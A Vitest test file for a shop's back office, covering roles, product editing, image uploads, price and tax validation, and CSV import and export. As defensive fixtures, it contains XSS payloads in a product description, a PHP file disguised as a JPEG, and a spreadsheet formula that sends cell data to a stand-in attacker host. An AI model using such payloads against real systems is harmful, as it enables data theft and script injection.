import { cpSync, mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import type { ProductDraft, StaffProduct } from '@tienda/domain';
import { accountCalls } from './accounts';
import { checkoutCalls } from './checkout';
import { databaseKinds } from './databases';
import { staffToken } from './staffSession';
import { startTestApp, type TestApp } from './testApp';

/** A multipart form with one file in the field `file`, as a browser sends it. */
function form(data: Buffer, filename: string, type: string) {
  const boundary = '----catalogo';
  const payload = Buffer.concat([
    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: ${type}\r\n\r\n`),
    data,
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  return { payload, headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
}

describe.each(databaseKinds)('el catálogo del back office en %s', (kind) => {
  let t: TestApp;
  let admin: string;
  let operador: string;
  const as = (token: string) => ({ authorization: `Bearer ${token}` });
  const call = (method: 'GET' | 'POST' | 'PUT', url: string, token: string | undefined, payload?: object) =>
    t.app.inject({ method, url, ...(payload ? { payload } : {}), headers: token ? as(token) : {} });
  const audit = (entity: string) =>
    t.db.query<{ action: string; entity_id: string | null; before: Record<string, unknown> | null; after: Record<string, unknown> | null }>(
      'SELECT action, entity_id, before, after FROM audit_log WHERE entity = $1 ORDER BY id',
      [entity],
    );
  const shopSearch = async (search: string) => (await t.app.inject({ method: 'PUT', url: '/api/product/filter/1', payload: { search } })).json().data.products as { id: number }[];

  beforeAll(async () => {
    // Uploads are written: a copy of the demo pictures of its own.
    const imagesDir = mkdtempSync(path.join(tmpdir(), 'tienda-bo-images-'));
    cpSync(inject('testImagesDir'), imagesDir, { recursive: true });
    t = await startTestApp(kind, {}, { imagesDir });
    admin = await staffToken(t.app, 'admin');
    operador = await staffToken(t.app, 'operador');
  });
  afterAll(() => t.close());

  it('lets each role do only its part, and no shopper at all', async () => {
    const shopper = (await accountCalls(t.app).signUp(`cliente-${kind}@ejemplo.com`)).token;
    expect((await call('GET', '/api/backoffice/products', shopper)).statusCode).toBe(401);
    expect((await call('GET', '/api/backoffice/products', undefined)).json().message).toBe('Inicia sesión en el back office.');

    // Every product, those the shop does not offer included, by name.
    const [{ count }] = (await t.db.query<{ count: number }>('SELECT count(*)::int AS count FROM products')) as [{ count: number }];
    const list = await call('GET', '/api/backoffice/products?sort=name', operador);
    expect(list.statusCode).toBe(200);
    expect(list.json()).toMatchObject({ ok: true, page: 1, total: count, totalPages: Math.ceil(count / 25) });
    const names = list.json().products.map((p: StaffProduct) => p.name);
    expect(names).toHaveLength(25);
    expect(names).toEqual([...names].sort((a, b) => (a < b ? -1 : a > b ? 1 : 0)));
    const [{ phones }] = (await t.db.query<{ phones: number }>('SELECT count(*)::int AS phones FROM products WHERE category_id = 1')) as [{ phones: number }];
    const pastTheEnd = (await call('GET', '/api/backoffice/products?categoryId=1&sort=-price&page=40', operador)).json();
    expect(pastTheEnd).toMatchObject({ products: [], total: phones, page: 40 });
    const outOfStock = (await call('GET', '/api/backoffice/products?status=out-of-stock', operador)).json().products as StaffProduct[];
    expect(outOfStock.every((p) => p.stock === 0 && p.active)).toBe(true);
    // The dashboard's figure and the list it links to count the same products.
    const [seven] = (await t.db.query<{ stock: number }>('SELECT stock FROM products WHERE id = 7')) as [{ stock: number }];
    await t.db.query('UPDATE products SET stock = 0, active = false WHERE id = 7');
    const dashboard = (await call('GET', '/api/backoffice/dashboard', operador)).json();
    const listed = (await call('GET', '/api/backoffice/products?status=out-of-stock', operador)).json();
    expect(listed.total).toBe(dashboard.outOfStock);
    await t.db.query('UPDATE products SET stock = $1, active = true WHERE id = 7', [seven.stock]);
    // An operador filters by every category and brand, those the shop does not offer included.
    expect((await call('GET', '/api/backoffice/categories', operador)).statusCode).toBe(200);
    expect((await call('GET', '/api/backoffice/brands', operador)).statusCode).toBe(200);

    const refused = [
      await call('GET', '/api/backoffice/products/1', operador),
      await call('POST', '/api/backoffice/categories', operador, { name: 'Drones', status: 'activa' }),
      await call('POST', '/api/backoffice/brands', operador, { name: 'DJI', status: 'activa' }),
      await call('PUT', '/api/backoffice/products/1', operador, { name: 'Otro nombre' }),
      await call('POST', '/api/backoffice/products/prices-and-stock', operador, { csv: 'id,precio\n1,1000' }),
    ];
    expect(refused.map((res) => [res.statusCode, res.json().message])).toEqual(
      refused.map((_, i) => [403, i === 4 ? 'Tu rol solo permite importar el stock: deja en el archivo las columnas id y stock.' : 'Tu rol no permite esta acción.']),
    );

    // An operador keeps the stock: one product, or a file with the stock column only.
    const stock = await call('PUT', '/api/backoffice/products/2/stock', operador, { stock: 41 });
    expect([stock.statusCode, stock.json().product.stock, stock.json().message]).toEqual([200, 41, 'Stock actualizado.']);
    const imported = await call('POST', '/api/backoffice/products/prices-and-stock', operador, { csv: 'id;nombre;stock\n2;Lo que sea;43\n' });
    expect([imported.statusCode, imported.json().count]).toEqual([200, 1]);
    expect((await t.app.inject('/api/product/2')).json().product.stock).toBe(43);
    expect((await audit('product')).filter((row) => row.action === 'stock')).toEqual([{ action: 'stock', entity_id: '2', before: { stock: expect.any(Number) }, after: { stock: 41 } }]);
  });

  it('creates and edits a product with an uploaded picture, seen by the shop at once; an inactive one disappears', async () => {
    const photo = await sharp({ create: { width: 3000, height: 2000, channels: 3, background: '#3366aa' } })
      .withMetadata({ exif: { IFD0: { Copyright: 'secreto', Artist: 'Alguien' } } })
      .jpeg()
      .toBuffer();
    const sent = form(photo, 'foto.jpg', 'image/jpeg');
    const upload = await t.app.inject({ method: 'POST', url: '/api/backoffice/images/product', payload: sent.payload, headers: { ...sent.headers, ...as(admin) } });
    expect(upload.statusCode, upload.body).toBe(201);
    const { name } = upload.json();
    expect(name).toMatch(/^[0-9a-f]{32}\.webp$/);
    const served = await t.app.inject(`/product/${name}`);
    const stored = await sharp(served.rawPayload).metadata();
    expect([served.statusCode, stored.format, stored.width, stored.exif]).toEqual([200, 'webp', 1920, undefined]);
    // Who uploaded which picture is on the audit log, before any product uses it.
    expect((await audit('image')).find((row) => row.entity_id === name)).toMatchObject({ action: 'upload', after: { kind: 'product', name, bytes: photo.length } });

    const disguised = form(Buffer.from('<?php echo "hola"; ?>'), 'a.jpg', 'image/jpeg');
    const notAnImage = await t.app.inject({ method: 'POST', url: '/api/backoffice/images/banner', payload: disguised.payload, headers: { ...disguised.headers, ...as(admin) } });
    expect([notAnImage.statusCode, notAnImage.json().message]).toEqual([415, 'La imagen debe ser un archivo JPEG, PNG o WebP de hasta 50 megapíxeles.']);

    const draft: ProductDraft = {
      name: 'Parlante Zorzal Xq9 Portátil',
      description: '<p onclick="robar()">Suena <strong>fuerte</strong><img src=x onerror="alert(1)"></p><script>alert(2)</script><h1>Ficha</h1>',
      price: 120_000,
      finalPrice: 99_999.5,
      installmentCost: 20_000,
      stock: 7,
      categoryId: 3,
      brandId: 5,
      highlighted: true,
      active: true,
      images: [name],
      ivaRate: 21,
      internalTaxRate: 9.5,
    };
    const wrong = await Promise.all([
      call('POST', '/api/backoffice/products', admin, { ...draft, categoryId: 999 }),
      call('POST', '/api/backoffice/products', admin, { ...draft, brandId: 999 }),
      call('POST', '/api/backoffice/products', admin, { ...draft, images: ['nunca-subida.webp'] }),
    ]);
    expect(wrong.map((res) => [res.statusCode, res.json().message])).toEqual([
      [422, 'La categoría elegida no existe. Elige una de la lista.'],
      [422, 'La marca elegida no existe. Elige una de la lista.'],
      [422, 'No encontramos la imagen "nunca-subida.webp": súbela de nuevo.'],
    ]);

    const created = await call('POST', '/api/backoffice/products', admin, draft);
    expect(created.statusCode, created.body).toBe(201);
    const product: StaffProduct = created.json().product;
    expect(product).toMatchObject({ name: draft.name, finalPrice: 99_999.5, active: true, images: [name] });
    expect(product.description).toBe('<p>Suena <strong>fuerte</strong></p><h3>Ficha</h3>');

    const shown = (await t.app.inject(`/api/product/${product.id}`)).json().product;
    expect(shown).toMatchObject({ name: draft.name, final_price: '99999.50', images: { default: [name] }, iva_rate: 21, internal_tax_rate: 9.5 });
    expect((await shopSearch('zorzal xq9')).map((p) => p.id)).toEqual([product.id]);
    const highlighted = async () => (await t.app.inject('/api/product/highlighted')).json().highlightedProducts.map((p: { id: number }) => p.id);
    expect(await highlighted()).toContain(product.id);
    const mapped = async () => (await t.app.inject('/sitemap/products-1.xml')).body.includes(`/product/${product.id}<`);
    expect(await mapped()).toBe(true);
    expect((await t.app.inject(`/share/product/${product.id}.jpg`)).statusCode).toBe(200);

    // The staff find it by its number or by words of its name.
    const byNumber = (await call('GET', `/api/backoffice/products?q=${product.id}`, admin)).json().products.map((p: StaffProduct) => p.id);
    expect(byNumber).toContain(product.id);
    expect((await call('GET', '/api/backoffice/products?q=zorzal', admin)).json()).toMatchObject({ total: 1, products: [{ id: product.id }] });

    const hidden = await call('PUT', `/api/backoffice/products/${product.id}`, admin, { ...draft, name: 'Parlante Zorzal Xq9 Pro', active: false });
    expect([hidden.statusCode, hidden.json().product.active, hidden.json().message]).toEqual([200, false, 'Producto guardado.']);
    expect((await t.app.inject(`/api/product/${product.id}`)).statusCode).toBe(404);
    expect(await shopSearch('zorzal')).toEqual([]);
    expect((await t.app.inject('/api/product/search?q=zorzal')).json().products).toEqual([]);
    expect(await highlighted()).not.toContain(product.id);
    expect(await mapped()).toBe(false);
    expect((await t.app.inject(`/share/product/${product.id}.jpg`)).statusCode).toBe(404);
    const c = checkoutCalls(t.app);
    const order = await c.guestOrder({ ...(await c.payload([{ product: shown, quantity: 1 }])) });
    expect([order.statusCode, order.json().message]).toEqual([409, '"Parlante Zorzal Xq9 Pro" ya no está a la venta.']);
    const inactive = (await call('GET', '/api/backoffice/products?status=inactive', admin)).json();
    expect(inactive.products.map((p: StaffProduct) => p.id)).toEqual([product.id]);

    expect((await call('PUT', `/api/backoffice/products/${product.id}`, admin, { ...draft, active: true })).statusCode).toBe(200);
    expect((await shopSearch('zorzal')).map((p) => p.id)).toEqual([product.id]);

    const rows = (await audit('product')).filter((row) => row.entity_id === String(product.id));
    expect(rows.map((row) => [row.action, row.before?.active, row.after?.active])).toEqual([
      ['create', undefined, true],
      ['update', true, false],
      ['update', false, true],
    ]);
  });

  it('keeps the units sold while the form was open when an edit leaves the stock out', async () => {
    const opened: StaffProduct = (await call('GET', '/api/backoffice/products/5', admin)).json().product;
    const shown = (await t.app.inject('/api/product/5')).json().product;
    const c = checkoutCalls(t.app);
    expect((await c.guestOrder(await c.payload([{ product: shown, quantity: 1 }]))).statusCode).toBe(201);
    const { id: _id, brandName: _b, categoryName: _c, updatedAt: _u, stock: _s, ...draft } = opened;
    // A dearer instalment and the price its six add up to.
    const repriced = { installmentCost: opened.installmentCost + 1000, price: opened.price + 6000 };
    const saved = await call('PUT', '/api/backoffice/products/5', admin, { ...draft, ...repriced });
    expect(saved.json().product).toMatchObject({ ...repriced, stock: opened.stock - 1 });
    // A stock the person typed is the count they mean.
    const counted = await call('PUT', '/api/backoffice/products/5', admin, { ...draft, stock: 30 });
    expect(counted.json().product.stock).toBe(30);
  });

  it('refuses prices whose 6 cuotas fijas make no sense, in the form and in the prices file, changing nothing', async () => {
    const opened: StaffProduct = (await call('GET', '/api/backoffice/products/9', admin)).json().product;
    const { id: _id, brandName: _b, categoryName: _c, updatedAt: _u, stock: _s, ...draft } = opened;
    const before = await t.db.query('SELECT id, price, final_price, internal_cost, stock, updated_at FROM products ORDER BY id');
    const form = async (prices: Partial<ProductDraft>) => {
      const res = await call('PUT', '/api/backoffice/products/9', admin, { ...draft, ...prices });
      return [res.statusCode, res.json().message.replace(/\u00a0/g, ' ')];
    };
    expect(await form({ price: 60_000, finalPrice: 70_000, installmentCost: 10_000 })).toEqual([
      422,
      'Las 6 cuotas de $ 10.000,00 suman $ 60.000,00, menos que el precio de contado de $ 70.000,00: las cuotas no pueden costar menos que el contado.',
    ]);
    expect(await form({ price: 80_000, finalPrice: 50_000, installmentCost: 10_000 })).toEqual([
      422,
      'El precio debe ser el total de las 6 cuotas de $ 10.000,00: $ 60.000,00, no $ 80.000,00.',
    ]);
    expect(await form({ price: 0, finalPrice: 0, installmentCost: 0 })).toEqual([422, 'El precio, el precio de contado y el valor de la cuota deben ser mayores que cero.']);
    const created = await call('POST', '/api/backoffice/products', admin, { ...draft, name: 'Sin sentido', installmentCost: 1, price: 6 });
    expect(created.statusCode).toBe(422);

    // The file: one good line, and three whose figures — with the columns it leaves out kept — make no offer.
    const file = [
      'id;precio;precio_contado;valor_cuota',
      `9;${draft.price};${draft.finalPrice};${draft.installmentCost}`.replace(/\./g, ','),
      '10;60.000;70.000;10.000',
      '11;80.000;50.000;10.000',
      '12;1;1;1',
    ].join('\n');
    const refused = await call('POST', '/api/backoffice/products/prices-and-stock', admin, { csv: file });
    expect(refused.statusCode).toBe(422);
    const spaced = (errors: { line: number; message: string }[]) => errors.map(({ line, message }) => ({ line, message: message.replace(/\u00a0/g, ' ') }));
    expect(refused.json().message).toBe('El archivo tiene 3 líneas con errores: no se cambió nada.');
    expect(spaced(refused.json().errors)).toEqual([
      { line: 3, message: 'Las 6 cuotas de $ 10.000,00 suman $ 60.000,00, menos que el precio de contado de $ 70.000,00: las cuotas no pueden costar menos que el contado.' },
      { line: 4, message: 'El precio debe ser el total de las 6 cuotas de $ 10.000,00: $ 60.000,00, no $ 80.000,00.' },
      { line: 5, message: 'El precio debe ser el total de las 6 cuotas de $ 1,00: $ 6,00, no $ 1,00.' },
    ]);
    // A file of cash prices only is checked against the instalments the product keeps.
    const cash = await call('POST', '/api/backoffice/products/prices-and-stock', admin, { csv: 'id,precio_contado\n13,999999999' });
    expect(cash.json().errors).toEqual([{ line: 2, message: expect.stringMatching(/^Las 6 cuotas de .* menos que el precio de contado de \$\s999\.999\.999,00/) }]);
    expect(await t.db.query('SELECT id, price, final_price, internal_cost, stock, updated_at FROM products ORDER BY id')).toEqual(before);
  });

  it('creates and renames categories and brands, refusing a name already taken', async () => {
    const created = await call('POST', '/api/backoffice/brands', admin, { name: 'Zorzal Audio', status: 'activa' });
    expect(created.statusCode, created.body).toBe(201);
    const brand = created.json().entry;
    expect(brand).toMatchObject({ name: 'Zorzal Audio', status: 'activa', productCount: 0 });
    const [taken, renamed] = [
      await call('POST', '/api/backoffice/brands', admin, { name: 'SAMSUNG', status: 'activa' }),
      await call('PUT', `/api/backoffice/brands/${brand.id}`, admin, { name: 'Zorzal', status: 'inactiva' }),
    ];
    expect([taken.statusCode, taken.json().message]).toEqual([409, 'Ya hay una marca con ese nombre.']);
    expect(renamed.json()).toMatchObject({ ok: true, entry: { id: brand.id, name: 'Zorzal', status: 'inactiva' }, message: 'Marca guardada.' });
    expect((await call('PUT', '/api/backoffice/brands/9999', admin, { name: 'Nadie', status: 'activa' })).statusCode).toBe(404);

    const category = (await call('POST', '/api/backoffice/categories', admin, { name: 'Drones', status: 'activa' })).json().entry;
    expect(category.id).toBeGreaterThan(1);
    const categories = (await call('GET', '/api/backoffice/categories', admin)).json().entries as { id: number; productCount: number }[];
    expect(categories.find((entry) => entry.id === category.id)).toEqual({ id: category.id, name: 'Drones', status: 'activa', productCount: 0 });
    expect(categories.find((entry) => entry.id === 1)!.productCount).toBeGreaterThan(0);
    expect((await t.app.inject('/api/category/all')).json().categories.map((c: { name: string }) => c.name)).toContain('Drones');

    expect((await audit('brand')).map((row) => row.action)).toEqual(['create', 'update']);
    expect((await audit('category')).map((row) => row.action)).toEqual(['create']);
  });

  it('exports a name a spreadsheet would run as a formula as text, and takes the file back unchanged', async () => {
    const names = ['=HYPERLINK("https://atacante.example/?d="&A1,"Ver oferta")', '+54 Parlante', '-Oferta-', '@SUM(1+1)'];
    const ids = [5, 6, 7, 8];
    for (const [i, name] of names.entries()) await t.db.query('UPDATE products SET name = $1 WHERE id = $2', [name, ids[i]]);
    const exported = (await call('GET', '/api/backoffice/products/prices-and-stock.csv', admin)).body;
    const lines = exported.trim().split('\n');
    expect(lines.find((line) => line.startsWith('5,'))).toContain(`"'=HYPERLINK(""https://atacante.example/?d=""&A1,""Ver oferta"")"`);
    for (const id of [6, 7, 8]) expect(lines.find((line) => line.startsWith(`${id},`))).toMatch(new RegExp(`^${id},'[+@-]`));
    // No cell of the file starts a formula.
    for (const line of lines.slice(1)) expect(line.split(',')[1]).not.toMatch(/^[=+\-@]/);

    const again = await call('POST', '/api/backoffice/products/prices-and-stock', admin, { csv: exported });
    expect(again.json()).toMatchObject({ ok: true, count: 0 });
  });

  it("sets a product's national taxes in the form and in the file, refusing a wrong rate in words and by line", async () => {
    const opened: StaffProduct = (await call('GET', '/api/backoffice/products/60', admin)).json().product;
    // A kitchen product of the demo: 21 % IVA, no internal taxes.
    expect([opened.ivaRate, opened.internalTaxRate]).toEqual([21, 0]);
    const { id: _id, brandName: _b, categoryName: _c, updatedAt: _u, stock: _s, ...draft } = opened;
    const refusedRates = await Promise.all([
      call('PUT', '/api/backoffice/products/60', admin, { ...draft, ivaRate: 27 }),
      call('PUT', '/api/backoffice/products/60', admin, { ...draft, internalTaxRate: 101 }),
      call('PUT', '/api/backoffice/products/60', admin, { ...draft, internalTaxRate: -1 }),
    ]);
    expect(refusedRates.map((res) => [res.statusCode, res.json().message])).toEqual([
      [400, 'El IVA debe ser 21 o 10,5.'],
      [400, 'Los impuestos internos deben ser un porcentaje entre 0 y 100.'],
      [400, 'Los impuestos internos deben ser un porcentaje entre 0 y 100.'],
    ]);
    const saved = await call('PUT', '/api/backoffice/products/60', admin, { ...draft, ivaRate: 10.5, internalTaxRate: 17 });
    expect(saved.json().product).toMatchObject({ ivaRate: 10.5, internalTaxRate: 17 });
    expect((await t.app.inject('/api/product/60')).json().product).toMatchObject({ iva_rate: 10.5, internal_tax_rate: 17 });

    const before = await t.db.query('SELECT id, iva_rate, internal_tax_rate FROM products ORDER BY id');
    const wrong = ['id;iva;impuestos_internos', '61;10,5;9,5', '62;27;0', '63;21;150', '64;;', '65;diez;0'].join('\n');
    const refused = await call('POST', '/api/backoffice/products/prices-and-stock', admin, { csv: wrong });
    expect(refused.statusCode).toBe(422);
    expect(refused.json().errors).toEqual([
      { line: 3, message: 'El IVA "27" debe ser 21 o 10,5.' },
      { line: 4, message: 'Los impuestos internos "150" deben ser un porcentaje entre 0 y 100.' },
      { line: 5, message: 'Falta el IVA. faltan los impuestos internos.' },
      { line: 6, message: 'El IVA "diez" debe ser 21 o 10,5.' },
    ]);
    expect(await t.db.query('SELECT id, iva_rate, internal_tax_rate FROM products ORDER BY id')).toEqual(before);
    // Rates are prices' business: an operador may not import them.
    const byOperador = await call('POST', '/api/backoffice/products/prices-and-stock', operador, { csv: 'id,iva\n61,10.5' });
    expect(byOperador.statusCode).toBe(403);

    const ok = await call('POST', '/api/backoffice/products/prices-and-stock', admin, { csv: 'id,iva,impuestos_internos\n61,10.5,9.5\n62,21,0' });
    expect(ok.json()).toMatchObject({ ok: true, count: 1 });
    expect((await t.app.inject('/api/product/61')).json().product).toMatchObject({ iva_rate: 10.5, internal_tax_rate: 9.5 });
    const exported = (await call('GET', '/api/backoffice/products/prices-and-stock.csv', admin)).body.split('\n');
    expect(exported.find((line) => line.startsWith('61,'))).toMatch(/,10\.5,9\.5$/);
  });

  it('exports prices and stock, imports a good file, and refuses a file with errors whole', async () => {
    const exported = await call('GET', '/api/backoffice/products/prices-and-stock.csv', admin);
    expect(exported.statusCode).toBe(200);
    expect(exported.headers['content-type']).toBe('text/csv; charset=utf-8');
    const [header, ...lines] = exported.body.trim().split('\n');
    expect(header).toBe('id,nombre,precio,precio_contado,valor_cuota,stock,iva,impuestos_internos');
    const [{ count }] = (await t.db.query<{ count: number }>('SELECT count(*)::int AS count FROM products')) as [{ count: number }];
    expect(lines).toHaveLength(count);
    // Product 1 is a phone made in Tierra del Fuego: 10,5 % IVA, no internal taxes.
    expect(lines[0]).toMatch(/^1,[^,]+(,\d+\.\d\d){3},\d+,10\.5,0$/);

    // The export, back with two products changed: only those move.
    const changed = [
      header,
      lines[0]!.replace(/,\d+(,[\d.]+,[\d.]+)$/, ',12$1'),
      lines[1]!.replace(/,([\d.]+),([\d.]+),(\d+)(,[\d.]+,[\d.]+)$/, ',1000.50,$2,$3$4'),
      ...lines.slice(2),
    ].join('\r\n');
    const ok = await call('POST', '/api/backoffice/products/prices-and-stock', admin, { csv: changed });
    expect(ok.json()).toEqual({ ok: true, count: 2, message: `Archivo importado: ${count} líneas, 2 productos cambiaron.` });
    const [one, two] = [(await t.app.inject('/api/product/1')).json().product, (await t.app.inject('/api/product/2')).json().product];
    expect(one.stock).toBe(12);
    expect(two.final_price).toBe('1000.50');

    const before = await t.db.query('SELECT id, price, final_price, internal_cost, stock FROM products ORDER BY id');
    const auditsBefore = (await audit('product')).length;
    const wrong = ['id;precio_contado;stock', '1;1.234,50;3', '3;mil;4', '999999;10;1', '4;10;-2', '1;5;5'].join('\n');
    const refused = await call('POST', '/api/backoffice/products/prices-and-stock', admin, { csv: wrong });
    expect(refused.statusCode).toBe(422);
    expect(refused.json()).toEqual({
      ok: false,
      message: 'El archivo tiene 4 líneas con errores: no se cambió nada.',
      errors: [
        { line: 3, message: 'El precio de contado "mil" no es un importe.' },
        { line: 4, message: 'No hay ningún producto con el id 999999.' },
        { line: 5, message: 'El stock "-2" debe ser un número entero entre 0 y 1.000.000.' },
        { line: 6, message: 'El producto 1 ya figura en la línea 2.' },
      ],
    });
    expect(await t.db.query('SELECT id, price, final_price, internal_cost, stock FROM products ORDER BY id')).toEqual(before);
    expect((await audit('product')).length).toBe(auditsBefore);

    const header1 = await call('POST', '/api/backoffice/products/prices-and-stock', admin, { csv: 'id,nombre\n1,Algo' });
    expect(header1.json().errors).toEqual([{ line: 1, message: 'El encabezado debe tener la columna id y al menos una de precio, precio_contado, valor_cuota, stock, iva o impuestos_internos.' }]);

    const imports = (await audit('product')).filter((row) => row.action === 'import');
    expect(imports.at(-1)?.after).toEqual({ lines: count, changed: 2, columns: 'precios y stock' });
  });
});
